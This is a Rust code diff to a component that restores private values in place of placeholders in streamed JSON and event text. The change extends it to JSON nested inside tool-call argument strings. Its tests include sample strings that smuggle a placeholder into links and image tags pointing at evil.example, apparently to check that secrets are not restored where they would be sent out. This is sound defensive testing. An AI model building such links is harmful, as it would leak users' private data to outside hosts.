@@ -2,6 +2,7 @@
 
 use serde::{Deserialize, Serialize};
 
+use super::document::{Inner, Names, is_json};
 use super::link::{Link, goes_on_as_host};
 use super::{Begins, LONGEST, begins};
 use crate::content::Format;
@@ -33,12 +34,22 @@ pub struct Restorer {
     place: Place,
     held: Vec<u8>,
     link: Link,
+    names: Names,
+    /// The document in the string.
+    inner: Option<Inner>,
 }
 
 impl Restorer {
     /// At the start of a text of a format.
     pub fn new(format: Format) -> Self {
-        Self { format, place: start(format), held: Vec::new(), link: Link::default() }
+        Self {
+            format,
+            place: start(format),
+            held: Vec::new(),
+            link: Link::default(),
+            names: Names::default(),
+            inner: None,
+        }
     }
 
     /// How many bytes wait.
@@ -96,7 +107,7 @@ impl Restorer {
         if self.place != Place::Inside {
             self.place = Place::Text;
         }
-        rest[..length].iter().for_each(|byte| self.link.read(*byte));
+        rest[..length].iter().for_each(|byte| self.read(&[*byte]));
         let encoding = match (self.place, self.format) {
             (Place::Inside, _) => Encoding::Json,
             (_, Format::Form) => Encoding::Percent,
@@ -119,23 +130,33 @@ impl Restorer {
         }
         match self.place {
             Place::Text => self.link.read(byte),
-            Place::Inside => match (byte, unit.get(1)) {
-                (b'"', _) => self.enter(Place::Outside),
-                (b'\\', Some(b'u')) => unescaped(unit).iter().for_each(|byte| self.link.read(*byte)),
-                (b'\\', Some(b'n' | b'r' | b't' | b'f' | b'b')) => self.link.read(b' '),
-                (b'\\', Some(byte)) => self.link.read(*byte),
-                _ => self.link.read(byte),
-            },
-            Place::Outside if byte == b'"' => self.enter(Place::Inside),
+            Place::Inside if byte == b'"' => self.enter(Place::Outside),
+            Place::Inside => self.inside(unit),
+            Place::Outside if byte == b'"' => {
+                self.enter(Place::Inside);
+                self.inner = self.names.string();
+            }
             Place::Outside => {
                 if !is_json(byte) {
                     // So quotes say nothing of where a link ends.
                     self.place = Place::Text;
                 }
+                self.names.outside(byte);
                 self.link.read(byte);
             }
             Place::Line(count) => self.line(byte, count),
             Place::Field => {}
+        }
+    }
+
+    /// A byte or an escape of a string.
+    fn inside(&mut self, unit: &[u8]) {
+        unit.iter().for_each(|byte| self.names.inside(*byte));
+        for byte in unescaped(unit) {
+            match self.inner {
+                Some(inner) => self.inner = inner.read(byte, &mut self.link),
+                None => self.link.read(byte),
+            }
         }
     }
 
@@ -167,22 +188,24 @@ fn start(format: Format) -> Place {
     }
 }
 
-/// What JSON has outside of strings.
-fn is_json(byte: u8) -> bool {
-    byte.is_ascii_digit() || byte.is_ascii_whitespace() || b"{}[]:,+-.eEtrufalsn\x1E\xEF\xBB\xBF".contains(&byte)
-}
-
 /// The length of an escape. None where more of it may follow.
 fn escape(rest: &[u8], last: bool) -> Option<usize> {
     let length = if rest.get(1) == Some(&b'u') { 6 } else { 2 };
     if rest.len() >= length || last { Some(length.min(rest.len())) } else { None }
 }
 
+/// What an escape stands for, or a byte that is none.
 fn unescaped(unit: &[u8]) -> Vec<u8> {
-    let digits = unit.get(2..6).and_then(|digits| std::str::from_utf8(digits).ok());
-    let code = digits.and_then(|digits| u32::from_str_radix(digits, 16).ok());
-    let character = code.and_then(char::from_u32).unwrap_or(char::REPLACEMENT_CHARACTER);
-    character.encode_utf8(&mut [0; 4]).as_bytes().to_vec()
+    match unit {
+        [b'\\', b'u', digits @ ..] => {
+            let code = std::str::from_utf8(digits).ok().and_then(|digits| u32::from_str_radix(digits, 16).ok());
+            let character = code.and_then(char::from_u32).unwrap_or(char::REPLACEMENT_CHARACTER);
+            character.encode_utf8(&mut [0; 4]).as_bytes().to_vec()
+        }
+        [b'\\', b'n' | b'r' | b't' | b'f' | b'b'] => vec![b' '],
+        [b'\\', byte] => vec![*byte],
+        _ => unit.to_vec(),
+    }
 }
 
 #[cfg(test)]
@@ -244,6 +267,11 @@ mod tests {
                 r#"{"url":"https:\/\/x.no","to":"PLACEHOLDER"}"#,
                 r#"{"url":"https:\/\/x.no","to":"kari@example.no"}"#,
             ),
+            (
+                Format::Json,
+                r#"{"function":{"arguments" : "{\"url\":\"https://x.no\",\"to\":\"PLACEHOLDER\"}"}}"#,
+                r#"{"function":{"arguments" : "{\"url\":\"https://x.no\",\"to\":\"kari@example.no\"}"}}"#,
+            ),
             (Format::Json, r#"["a\nPLACEHOLDER"]"#, r#"["a\nkari@example.no"]"#),
             (
                 Format::Events,
@@ -276,6 +304,9 @@ mod tests {
             (Format::Json, r#"{"a":"https:\u002f\u002fevil.example/PLACEHOLDER"}"#),
             (Format::Json, r#"{"a":"<img src=\"//evil.example/ PLACEHOLDER\">"}"#),
             (Format::Json, r#"{"a":"PLACEHOLDER\u002eevil.example"}"#),
+            (Format::Json, r#"{"arguments":"{\"url\":\"https://evil.example/?x=\\\"PLACEHOLDER\"}"}"#),
+            (Format::Json, r#"{"content":"{\"url\":\"https://evil.example/?x=\",\"PLACEHOLDER\"}"}"#),
+            (Format::Json, r#"{"arguments":"[a](https://evil.example/?x=\"PLACEHOLDER"}"#),
             (Format::Json, "[a](https://evil.example/?x=\"PLACEHOLDER"),
             (Format::JsonLines, "{}\n[a](https://evil.example/?x=\"PLACEHOLDER"),
             (Format::Events, "data: https://evil.example/?x=\"PLACEHOLDER\n\n"),
